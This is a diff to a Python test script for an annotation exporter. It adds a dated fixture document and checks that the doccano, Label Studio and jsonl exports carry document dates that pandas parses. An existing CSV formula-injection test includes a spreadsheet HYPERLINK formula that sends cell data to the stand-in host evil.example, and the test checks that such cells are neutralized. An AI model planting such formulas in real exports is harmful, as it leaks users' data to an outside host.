@@ -70,6 +70,9 @@ def tricky_project(path):
             "fingerprint": "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest(),
             "text": text, "layers": {"tester": spans},
         })
+        if doc_id == "urdu":
+            # One dated document and one not: exports carry `date`, null for the other.
+            docs[-1]["date"] = "2025-03-14"
     labels = [{"name": n, "color": c, "key": str(i + 1)} for i, (n, c) in
               enumerate([("LOCATION", "#56B4E9"), ("ACTOR", "#D55E00"), ("EVENT", "#009E73"), ("COUNT", "#E69F00")])]
     project = {"format": "spanmark-project", "version": 1, "offset_unit": "codepoint",
@@ -391,6 +394,45 @@ def check_events(out, project):
         ok(line["trigger"] == trigger and line["event_date"] == date, f"events.jsonl: {line['event_id']}")
 
 
+def check_dates(base, project):
+    """Each record's document date where each tool keeps metadata, and pandas reads them as dates."""
+    import pandas as pd
+
+    want = {d["text"]: d.get("date") for d in project["documents"]}
+    dated = any(want.values())
+
+    def same(got, text, where):
+        if dated:
+            ok(got == want[text], f"{where}: date {got!r} of its document")
+        else:
+            ok(got is None, f"{where}: no date key without dated documents")
+
+    doccano = (base / "doccano" / "data.doccano.jsonl").read_text(encoding="utf-8")
+    for line in doccano.splitlines():
+        rec = json.loads(line)
+        ok(("date" in rec) == dated, "doccano: date at the top (doccano metadata)")
+        same(rec.get("date"), rec["text"], "doccano")
+    for task in json.loads((base / "label-studio" / "data.label-studio.json").read_text(encoding="utf-8")):
+        same(task["data"].get("date"), task["data"]["text"], "Label Studio data")
+    spacy_lines = (base / "jsonl" / "data.jsonl").read_text(encoding="utf-8")
+    for line in spacy_lines.splitlines():
+        rec = json.loads(line)
+        same(rec["meta"].get("date"), rec["text"], "jsonl meta")
+    if dated:
+        import io
+
+        table = pd.read_json(io.StringIO(doccano), lines=True, dtype=False)
+        table_dates = pd.to_datetime(table["date"], format="%Y-%m-%d")
+        for i, text in enumerate(table["text"]):
+            w = want[text]
+            ok((pd.isna(table_dates[i]) and w is None) or table_dates[i] == pd.Timestamp(w), f"pandas reads the doccano date {w}")
+        meta = pd.json_normalize([json.loads(x) for x in spacy_lines.splitlines()])
+        dates = pd.to_datetime(meta["meta.date"], format="%Y-%m-%d")
+        for i, text in enumerate(meta["text"]):
+            w = want[text]
+            ok((pd.isna(dates[i]) and w is None) or dates[i] == pd.Timestamp(w), f"pandas reads the jsonl meta.date {w}")
+
+
 def check_csv_formulas(tmp):
     """Cells a spreadsheet would run as formulas get a ' unless --raw; Python's csv reads both back."""
     live = ['=HYPERLINK("http://evil.example/?q="&A1,"Open")', "+1", "-2", "@SUM(A1:A3)", "\t=1+1", "\r=1+1"]
@@ -447,6 +489,7 @@ def main():
             check_label_studio(base / "label-studio", expected, texts)
             check_csv(base / "csv", expected, texts, raw)
             check_events(base / "events", raw)
+            check_dates(base, raw)
             print(f"{project.name}: all formats agree with their consumers")
         check_csv_formulas(tmp)
         print("csv: formula cells neutralized, exact with --raw")
